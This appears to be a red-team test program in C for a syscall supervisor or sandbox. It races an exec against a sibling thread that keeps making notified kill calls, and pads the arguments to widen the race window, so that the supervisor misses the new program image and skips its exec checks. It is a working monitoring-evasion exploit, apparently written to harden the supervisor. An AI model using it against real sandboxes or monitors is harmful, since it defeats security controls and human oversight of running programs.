// Red-team (F3): exec while a sibling thread keeps making a notified call (kill(getpid(), 0),
// always notified by the tamper guard). If the supervisor serves the sibling's call while
// the exec is in flight, it reads the OLD program, clears execPending, and never learns
// the new image: no exec event, no activation, no exec re-check.
//   exec_hide TRIES PROGRAM [ARGS...]   forks TRIES children, each execs PROGRAM ARGS (+ padding args)
#define _GNU_SOURCE
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <signal.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static atomic_int started;
static void *spam(void *u)
{
	(void)u;
	atomic_store(&started, 1);
	pid_t me = getpid();
	for (;;) syscall(SYS_kill, me, 0);
	return NULL;
}

int main(int argc, char **argv)
{
	if (argc < 3) return 2;
	int tries = atoi(argv[1]), pad = getenv("PAD") ? atoi(getenv("PAD")) : 2000;
	int ok = 0;
	for (int i = 0; i < tries; i++) {
		fflush(stdout);
		pid_t pid = fork();
		if (pid == 0) {
			int n = argc - 2;
			char **av = calloc(n + pad + 1, sizeof(char *));
			for (int j = 0; j < n; j++) av[j] = argv[2 + j];
			static char padding[1024];
			memset(padding, 'x', sizeof(padding) - 1);
			for (int j = 0; j < pad; j++) av[n + j] = padding; // slows the exec down: a wider window
			pthread_t t;
			if (!getenv("NOSPAM")) {
				pthread_create(&t, NULL, spam, NULL);
				while (!atomic_load(&started));
			}
			execv(argv[2], av);
			_exit(127);
		}
		int st;
		waitpid(pid, &st, 0);
		ok += WIFEXITED(st) && WEXITSTATUS(st) == 0;
	}
	printf("tries %d exit0 %d\n", tries, ok);
	return 0;
}
